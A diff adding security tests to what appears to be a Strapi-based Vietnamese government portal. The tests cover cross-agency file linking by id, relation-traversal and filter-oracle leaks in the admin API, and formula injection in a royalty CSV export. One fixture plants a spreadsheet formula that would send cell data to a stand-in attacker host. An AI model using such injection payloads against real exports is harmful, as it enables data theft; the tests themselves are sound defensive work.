@@ -9,6 +9,7 @@ import { randomBytes } from 'node:crypto';
 import path from 'node:path';
 import { createRequire } from 'node:module';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { todayInVietnam } from '@cong/shared';
 import { bootCms, cmsDir, gql, type BootedCms } from '../helpers/strapi';
 import { TRANSITION_UID, call, createAccount, login } from '../helpers/workflow';
 
@@ -438,6 +439,7 @@ describe(`also open — registration, default tokens, CORS, slug oracle (${DB})`
       return ((await res.json()) as any[])[0];
     };
     const fileA = await upload(tok.editorA, 'quyet-dinh-nhap-so-a.pdf');
+    ids.fileA = fileA.id;
     const fileB = await upload(tok.editorB, 'ke-hoach-thanh-pho.pdf');
     const names = async (t: string) => ((await call(cms.url, t, 'GET', '/upload/files?pageSize=100')).body.results ?? []).map((f: any) => f.name);
     expect(await names(tok.editorB)).toEqual(['ke-hoach-thanh-pho.pdf']);
@@ -449,6 +451,65 @@ describe(`also open — registration, default tokens, CORS, slug oracle (${DB})`
     expect(rename.status).toBeGreaterThanOrEqual(400);
     expect((await s.db.query('plugin::upload.file').findOne({ where: { id: fileA.id } })).name).toBe('quyet-dinh-nhap-so-a.pdf');
     expect(fileB.id).toBeTruthy();
+  });
+
+  it("an agency account cannot link another agency's file by its id (ids run in sequence); its own files and files already on the item stay usable", async () => {
+    expect(ids.fileA).toBeTruthy();
+    const CMA = `/content-manager/collection-types/${ART}`;
+    const before = await stored(ART, []);
+    for (const cover of [ids.fileA, String(ids.fileA), { id: ids.fileA }, [ids.fileA]]) {
+      const r = await call(cms.url, tok.editorB, 'POST', CMA, { title: 'Ảnh bìa mượn', kind: 'news', scope: 'province', cover });
+      expect(r.status, `${JSON.stringify(cover)} → ${JSON.stringify(r.body).slice(0, 200)}`).toBe(403);
+    }
+    const upd = await call(cms.url, tok.editorB, 'PUT', `${CMA}/${doc.draftB.documentId}`, { cover: ids.fileA });
+    expect(upd.status).toBe(403);
+    expect(await stored(ART, [])).toEqual(before);
+    // a file the board put on an agency's item stays there when the agency saves it again
+    const put = await call(cms.url, tok.board, 'PUT', `${CMA}/${doc.draftB.documentId}`, { cover: ids.fileA });
+    expect(put.status, JSON.stringify(put.body).slice(0, 200)).toBe(200);
+    const again = await call(cms.url, tok.editorB, 'PUT', `${CMA}/${doc.draftB.documentId}`, { title: 'Tin nháp của thành phố', cover: ids.fileA });
+    expect(again.status, JSON.stringify(again.body).slice(0, 200)).toBe(200);
+  });
+
+  it("populate, filters and sort of the admin API do not follow a relation into another agency's content", async () => {
+    const CMP = `/content-manager/collection-types/${PROC}`;
+    const created = await call(cms.url, tok.editorB, 'POST', CMP, { name: 'Thủ tục dò tìm', legalBasis: { connect: [{ documentId: doc.lawA.documentId }] } });
+    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
+    const id = created.body.data.documentId;
+    const deep = 'populate[legalBasis][populate][agency][populate][articles][fields][0]=title&populate[legalBasis][populate][agency][populate][legalDocuments][fields][0]=abstract';
+    for (const path of [`${CMP}/${id}?${deep}`, `${CMP}?${deep}`, `${CMP}/${id}?populate=*`, `${CMP}/${id}?populate[legalBasis][populate]=*`]) {
+      const r = await call(cms.url, tok.editorB, 'GET', path);
+      expect(r.status, path).toBeLessThan(500);
+      expect(leaks(r.body), path).toEqual([]);
+      expect(JSON.stringify(r.body), path).not.toContain('Sở Tài nguyên và Môi trường');
+    }
+    // a filter through the relation cannot test the other agency's rows (no yes/no oracle)
+    for (const q of [
+      `filters[legalBasis][documentNumber][$eq]=${encodeURIComponent('01/2026/QĐ-UBND')}`,
+      `filters[$or][0][legalBasis][documentNumber][$eq]=${encodeURIComponent('01/2026/QĐ-UBND')}`,
+      `filters[legalBasis][agency][name][$contains]=${encodeURIComponent('Tài nguyên')}`,
+    ]) {
+      const r = await call(cms.url, tok.editorB, 'GET', `${CMP}?${q}`);
+      expect(r.status, q).toBe(200);
+      expect(r.body.pagination?.total ?? r.body.results?.length, q).toBe(0);
+    }
+    // the board sees through the same link
+    const board = await call(cms.url, tok.board, 'GET', `${CMP}?filters[legalBasis][documentNumber][$eq]=${encodeURIComponent('01/2026/QĐ-UBND')}`);
+    expect(board.body.pagination.total).toBeGreaterThanOrEqual(1);
+  });
+
+  it('the royalty ledger pays the author that was published, and its CSV runs no formula', async () => {
+    const d = await docs(ART).create({ data: { title: '=SUM(1+1) tin nhuận bút', kind: 'news', scope: 'province', agency: agency.B, author: 'Nguyễn Văn Tác Giả' } });
+    await docs(ART).publish({ documentId: d.documentId });
+    const edit = await call(cms.url, tok.editorB, 'PUT', `/content-manager/collection-types/${ART}/${d.documentId}`, { author: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")' });
+    expect(edit.status, JSON.stringify(edit.body).slice(0, 200)).toBe(200);
+    const month = todayInVietnam().slice(0, 7);
+    const res = await fetch(`${cms.url}/cong-reports/royalties?month=${month}&format=csv`, { headers: { authorization: `Bearer ${tok.board}` } });
+    expect(res.status).toBe(200);
+    const csv = await res.text();
+    expect(csv).toContain('Nguyễn Văn Tác Giả');
+    expect(csv).not.toContain('HYPERLINK');
+    for (const cell of csv.split(/[\n,]/)) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@]/);
   });
 
   it("uid/check-availability does not tell an editor which slugs another agency's drafts use", async () => {
